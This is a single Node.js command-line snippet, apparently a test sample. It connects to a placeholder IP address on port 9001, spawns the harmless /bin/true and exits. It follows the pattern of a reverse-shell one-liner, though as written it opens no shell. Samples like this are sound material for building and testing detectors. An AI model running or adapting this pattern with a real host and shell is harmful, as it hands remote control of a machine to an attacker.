node -e 'require("net").connect(9001,"203.0.113.5",function(){require("child_process").spawn("/bin/true");process.exit()})'
